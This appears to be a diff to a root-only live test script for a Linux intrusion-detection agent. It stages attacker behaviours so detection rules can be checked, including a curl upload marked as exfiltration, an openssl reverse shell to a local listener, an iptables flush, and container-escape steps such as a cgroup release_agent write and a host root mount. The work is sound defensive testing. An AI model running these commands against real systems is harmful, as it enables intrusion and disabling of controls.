@@ -11,8 +11,13 @@
 # group, a fake "container" (a cgroup named /docker/<64 hex> in the pids
 # hierarchy plus unshare --mount --pid --fork --mount-proc), a network
 # namespace with its own resolver; kernel calls that would change the
-# host are made in refused forms (live_kact.c).  Everything is undone on
-# every exit path (trap).  Exit 77 when not root or vigild is not built.
+# host are made in refused forms (live_kact.c, a read-only mount over a
+# read-write one, an open for append that writes nothing); in the
+# directories the file rules name, new uniquely named files with a
+# suffix no reader of those directories loads (fim_behaviours.sh); the
+# agent-health rules from a second vigild starved on purpose
+# (agent_faults.sh).  Everything is undone on every exit path (trap).
+# Exit 77 when not root or vigild is not built.
 #
 # Environment: VIGIL_BUILDDIR (default: cwd), VIGIL_SRCDIR (default: from
 # this script's path), LIVE_KEEP=1 keeps the temp dir for inspection.
@@ -61,14 +66,22 @@ AKEY=vigil_live_$$
 PIDS=
 VPID=
 FIM_RESTORE=:
+AGENT_RESTORE=:
 DPID=
+# directories the file rules name that this host lacks: made before
+# vigild starts (so its marks cover them), removed at exit
+MADE_DIRS=
 
 cleanup() {
 	for p in $PIDS; do kill -9 "$p" 2>/dev/null; done
+	# the second vigild of agent_faults.sh may be stopped (SIGSTOP)
+	[ -n "${AFPID:-}" ] && { kill -CONT "$AFPID"; kill -TERM "$AFPID"; } 2>/dev/null
 	[ -n "$VPID" ] && kill -TERM "$VPID" 2>/dev/null
 	[ -n "$DPID" ] && kill -TERM "$DPID" 2>/dev/null
 	wait 2>/dev/null
 	$FIM_RESTORE
+	$AGENT_RESTORE
+	for d in $MADE_DIRS; do rmdir "$d" 2>/dev/null; done
 	# processes of the throwaway user (an ssh session winding down)
 	# would make userdel refuse: end them by pid first
 	for u in $(ps -o pid= -u "$LUSER" 2>/dev/null); do kill -9 "$u"; done
@@ -94,6 +107,15 @@ expect() {
 # skipped RULE BEHAVIOUR WHY
 skipped() { printf '%s\t%s\tSKIP\t%s\t-\t-\n' "$1" "$2" "$3" >>"$EXP"; }
 
+# make_dir DIR: makes DIR and its missing parents, deepest first in
+# MADE_DIRS so that cleanup removes them in that order.
+make_dir() {
+	[ -d "$1" ] && return 0
+	make_dir "$(dirname "$1")" || return 1
+	mkdir -m 755 "$1" || return 1
+	MADE_DIRS="$1 $MADE_DIRS"
+}
+
 # ---- the agent ------------------------------------------------------
 
 . "$here/agent.sh"
@@ -101,7 +123,11 @@ skipped() { printf '%s\t%s\tSKIP\t%s\t-\t-\n' "$1" "$2" "$3" >>"$EXP"; }
 # the suite's own scratch dirs (setuid/capability/self-delete tests)
 # (inode marks: with filesystem marks over these trees the audit source
 # of the same vigild read nothing in our runs; see the report)
-FIM_MARKS=inode agent_start "$T" "$AKEY" "/etc, /usr/bin, /home, /var/log, $T, $W"
+# the file rules' directories this host lacks (removed at exit)
+for d in /etc/vigil /etc/udev/rules.d /usr/local/share/vigil /srv; do
+	make_dir "$d" || echo "note: cannot make $d"
+done
+FIM_MARKS=inode agent_start "$T" "$AKEY" "/etc, /usr/bin, /usr/local/share, /srv, /home, /var/log, $T, $W"
 
 # The DNS monitor in the namespace: a second vigild, DNS only (audit
 # and the proc connector belong to the initial network namespace).
@@ -169,20 +195,26 @@ source_running "$T/run/vigil.sock" fanotify && have_fim=1
 # substitution, whose short life would cut the ancestry) and sets p to
 # its pid: the pid that execs CMD, i.e. the process the rules see.
 run() { "$@" >>"$T/behaviours.log" 2>&1 & p=$!; wait $p; }
-# listener PORT: a one-shot TCP listener on 127.0.0.1 that sends "exit"
-# and closes; runs in the background.
+# listener PORT [CERT KEY]: a one-shot TCP listener on 127.0.0.1 (TLS
+# with CERT and KEY) that sends "exit" and closes; runs in the background.
 listener() {
 	"$PY" -c '
-import socket, sys
+import socket, ssl, sys
 s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
 s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(1); s.settimeout(10)
-c, _ = s.accept(); c.sendall(b"exit\n"); c.settimeout(2)
+c, _ = s.accept()
+if len(sys.argv) > 3:
+    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    ctx.load_cert_chain(sys.argv[2], sys.argv[3])
+    c.settimeout(5)
+    c = ctx.wrap_socket(c, server_side=True)
+c.sendall(b"exit\n"); c.settimeout(2)
 try:
     c.recv(4096)
 except OSError:
     pass
 c.close()
-' "$1" &
+' "$@" &
 	PIDS="$PIDS $!"
 	sleep 0.3
 }
@@ -245,6 +277,45 @@ PIDS="$PIDS $!"
 for i in $(seq 50); do curl -s -o /dev/null "http://127.0.0.1:$PORT/" && break; sleep 0.1; done
 run sh -c "curl -s http://127.0.0.1:$PORT/x.sh | sh"
 expect download_piped_to_shell curl-sh $p "*/sh" "| sh" "$ME"
+# an upload to the same local server (it answers PUT with 501)
+echo 'vigil live test' >"$T/exfil.txt"
+run curl -s -o /dev/null -T "$T/exfil.txt" "http://127.0.0.1:$PORT/exfil.txt"
+expect data_exfiltration_tool curl-T $p /usr/bin/curl -T "$ME"
+
+# services that start a shell: copies of sh named after the service
+# (the rules know a program by the name of its executable); each runs a
+# child shell, as a web shell, a database's COPY ... FROM PROGRAM or a
+# Java deserialisation gadget would.
+for svc in nginx:shell_from_web_server mysqld:shell_from_database \
+	java:shell_from_java_application; do
+	cp /bin/sh "$T/${svc%%:*}"
+	run "$T/${svc%%:*}" -c "/bin/sh -c 'echo from-${svc%%:*}'; true"
+	expect "${svc#*:}" "${svc%%:*}-sh" "~$p" "*sh" "from-${svc%%:*}" "$ME"
+done
+cp /bin/sh "$T/gitlab-runner"
+run "$T/gitlab-runner" -c '/bin/sh -i </dev/null; true'
+expect interactive_shell_from_ci_runner gitlab-runner-sh-i "~$p" "*sh" -i "$ME"
+
+# a reverse shell over TLS: sh -i fed by openssl s_client through a
+# fifo, to a local TLS listener that sends "exit"
+PORT=$((PORT + 1))
+if openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 \
+	-nodes -subj /CN=vigil-live -days 1 -keyout "$T/tls.key" \
+	-out "$T/tls.crt" >>"$T/behaviours.log" 2>&1; then
+	listener $PORT "$T/tls.crt" "$T/tls.key"
+	run timeout 10 sh -c "mkfifo $T/rs.fifo; /bin/sh -i <$T/rs.fifo 2>&1 | openssl s_client -quiet -connect 127.0.0.1:$PORT >$T/rs.fifo; rm -f $T/rs.fifo"
+	expect openssl_reverse_shell openssl-s_client "~$p" /usr/bin/openssl s_client "$ME"
+else
+	skipped openssl_reverse_shell openssl-s_client "openssl req could not make a certificate"
+fi
+
+# iptables -F in a network namespace of its own (empty, gone after)
+if command -v iptables >/dev/null; then
+	run unshare --net iptables -F
+	expect security_control_disabled iptables-F $p "*tables*" -F "$ME"
+else
+	skipped security_control_disabled iptables-F "iptables not installed"
+fi
 
 run bash -c 'exec -a "[kworker/0:7]" sleep 0'
 expect kernel_thread_name_masquerade kworker-argv0 $p /usr/bin/sleep "[kworker/0:7]" "$ME"
@@ -275,16 +346,35 @@ expect vigil_stopped_by_command killall-vigil $p /usr/bin/killall vigil "$ME"
 # exec is read takes its parent's container.
 if [ -d /sys/fs/cgroup/pids ] && { [ -d "$CGP" ] || { mkdir "$CGP" && : >"$T/cgp.made"; }; } &&
 	mkdir "$CG" 2>/dev/null; then
+	# $1: a scratch mount point, $2: live_kact, $3: the suite's dir,
+	# $4 $5: the host's root device and its fs type.  The mounts are
+	# in the private mount namespace; the host's root device is
+	# mounted read-only over a read-write mount, which the kernel
+	# refuses (EBUSY) after the attempt is audited.
 	cat >"$T/inside.sh" <<'EOC'
 id; whoami; uname -a; hostname
 apt-get -s install sl >/dev/null 2>&1
 cc --version >/dev/null
 mount -t tmpfs vigil-live "$1"; umount "$1"
+mount -t cgroup2 vigil-live "$1" && umount "$1"
+: >>/sys/fs/cgroup/pids/release_agent
+[ -n "$4" ] && { mount -t "$5" -o ro "$4" "$1" && umount "$1"; }
 unshare --user true
+"$3/docker" ps
+"$2" module-load "$3/cfake.ko"
+"$2" setns
 /bin/sh -i </dev/null
 EOC
 	mkdir -p "$T/ctmp"
-	run sh -c "echo \$\$ >$CG/cgroup.procs && exec unshare --mount --pid --fork --mount-proc sh $T/inside.sh $T/ctmp"
+	cp /bin/true "$T/docker"
+	printf 'not a module' >"$T/cfake.ko"
+	rootdev=$(findmnt -no SOURCE / 2>/dev/null)
+	rootfs=$(findmnt -no FSTYPE / 2>/dev/null)
+	case "$rootdev:$rootfs" in
+	/dev/*:ext[234]|/dev/*:xfs|/dev/*:btrfs) ;;
+	*) rootdev=; rootfs= ;;
+	esac
+	run sh -c "echo \$\$ >$CG/cgroup.procs && exec unshare --mount --pid --fork --mount-proc sh $T/inside.sh $T/ctmp $KACT $T '$rootdev' '$rootfs'"
 	# the processes inside run under other pids: check the container
 	# id and the tree, not the pid.
 	for r in discovery_commands_in_container package_manager_in_container \
@@ -292,8 +382,29 @@ EOC
 		interactive_shell_in_container; do
 		expect $r container "~$p" - - "$ME" "container=$CID"
 	done
+	expect cgroup_or_debugfs_mounted_in_container mount-cgroup2 "~$p" \
+		/usr/bin/mount cgroup2 "$ME" "container=$CID"
+	if [ -n "$rootdev" ]; then
+		expect host_filesystem_mounted_in_container mount-rootdev "~$p" \
+			/usr/bin/mount "$rootdev" "$ME" "container=$CID"
+	else
+		skipped host_filesystem_mounted_in_container mount-rootdev \
+			"the root filesystem is not a block device with ext4, xfs or btrfs"
+	fi
+	expect container_client_in_container docker "~$p" "$T/docker" ps \
+		"$ME" "container=$CID"
+	expect kernel_module_loaded_from_container module-load "~$p" "$KACT" \
+		"$T/cfake.ko" "$ME" "container=$CID"
+	expect setns_in_container setns "~$p" "$KACT" setns "$ME" \
+		"container=$CID"
+	expect cgroup_release_agent_written release_agent "~$p" "*sh" - \
+		"$ME" "container=$CID"
 else
-	for r in discovery_commands_in_container package_manager_in_container; do
+	for r in discovery_commands_in_container package_manager_in_container \
+		cgroup_or_debugfs_mounted_in_container \
+		host_filesystem_mounted_in_container \
+		container_client_in_container kernel_module_loaded_from_container \
+		setns_in_container cgroup_release_agent_written; do
 		skipped $r container "no cgroup v1 pids hierarchy to make a /docker/<id> cgroup"
 	done
 fi
@@ -336,6 +447,8 @@ expect mount_over_proc_pid mount-proc-pid "~$p" /usr/bin/mount "/proc/$sl" "$ME"
 # calling chroot(2) directly is what it is after
 run "$KACT" chroot
 expect unexpected_chroot chroot $p "$KACT" chroot "$ME"
+run "$KACT" pivot-root
+expect unexpected_pivot_root pivot-root $p "$KACT" pivot-root "$ME"
 cp /bin/true "$T/suid"
 run groupadd "$LGROUP"
 expect user_account_created groupadd $p /usr/sbin/groupadd "$LGROUP" "$ME"
@@ -363,7 +476,7 @@ done
 # theirs; vigild must notice and put them back
 run auditctl -D -k "$AKEY"
 expect auditd_disabled_or_rules_deleted auditctl-D $p /usr/sbin/auditctl -D "$ME"
-expect agent_audit_rules_flushed rules-flushed - - - -
+expect agent_audit_rules_flushed rules-flushed "$VPID" "$VIGILD" "$T/vigil.yaml" "$ME"
 sleep 0.5
 auditctl -l | grep -q "key=$AKEY" || { echo "FAIL: vigild did not re-install its audit rules"; exit 1; }
 
@@ -398,6 +511,13 @@ except OSError: pass'
 	dns mzxw6ytboi2tcmrtgq3tmnzygazdgnbv.mzxw6ytboi2tcmrtgq3tmnzygazdgnbv.mzxw6ytboi2tcmrtgq3tmnzygazdgnbv.t.example A
 	expect dns_deeply_encoded_subdomain encoded - - - -
 	dns abc.onion A; expect dns_onion_or_tor_gateway onion - - - -
+	# four 47-character labels: a 200-character name
+	long=$(printf 'a%.0s' $(seq 47))
+	dns "$long.$long.$long.$long.vigil-live.example" A
+	expect dns_long_query_name long-name "~$p" "*/dig" "$long" "$ME"
+	# a resolver query from a process whose argv[0] says kworker
+	run ip netns exec "$NS" bash -c 'exec -a "[kworker/1:3]" dig +time=1 +tries=1 kthread.vigil-live.example A'
+	expect dns_query_from_kernel_thread_name kworker-argv0 "~$p" "*/dig" kthread.vigil-live.example "$ME"
 	dns webhook.site A; expect dns_chat_or_webhook_c2_service webhook - - - -
 	cp "$(command -v dig)" "$W/dig"
 	run ip netns exec "$NS" "$W/dig" +time=1 +tries=1 www.vigil-live.example A
@@ -405,7 +525,10 @@ except OSError: pass'
 	run ip netns exec "$NS" curl -s --max-time 2 http://169.254.169.254/latest/meta-data/iam/security-credentials/
 	expect cloud_metadata_credentials_request imds "~$p" /usr/bin/curl security-credentials "$ME"
 else
-	skipped dns_mining_pool_lookup dns "no network namespace with unbound and a DNS monitor"
+	for r in dns_mining_pool_lookup dns_long_query_name \
+		dns_query_from_kernel_thread_name; do
+		skipped $r dns "no network namespace with unbound and a DNS monitor"
+	done
 fi
 
 # ---- file integrity -------------------------------------------------
@@ -414,16 +537,26 @@ if [ $have_fim = 0 ]; then
 		ld_preload_file_modified ssh_authorized_keys_modified \
 		cron_job_modified systemd_unit_modified log_file_truncated \
 		shell_history_linked_to_dev_null executable_deleted_itself \
-		setuid_or_setgid_bit_added file_capabilities_set; do
+		setuid_or_setgid_bit_added file_capabilities_set \
+		ld_so_conf_modified sshd_config_modified udev_rules_modified \
+		kernel_module_files_modified system_shell_profile_modified \
+		rc_script_modified audit_configuration_modified \
+		ca_certificates_modified vigil_config_modified \
+		vigil_service_unit_modified vigil_binary_or_policy_modified \
+		nsswitch_modified critical_log_deleted web_shell_dropped; do
 		skipped $r fim "vigilctl status shows no fanotify source"
 	done
 else
 	. "$here/fim_behaviours.sh"
 fi
 
+# ---- agent health: a second vigild, starved ------------------------
+. "$here/agent_faults.sh"
+
 sleep 3	# end-of-event timeout (2s) and the sink
 kill -TERM "$VPID"; wait "$VPID"; VPID=
 [ -n "$DPID" ] && { kill -TERM "$DPID"; wait "$DPID"; DPID=; }
 expect agent_started start - - - -
 expect agent_stopping stop - - - -
-"$PY" "$here/check_signals.py" "$T/signals.json" "$EXP" $$ "$CID"
+"$PY" "$here/check_signals.py" "$T/signals.json" "$EXP" $$ "$CID" \
+	"$AGENT_SIGNALS"
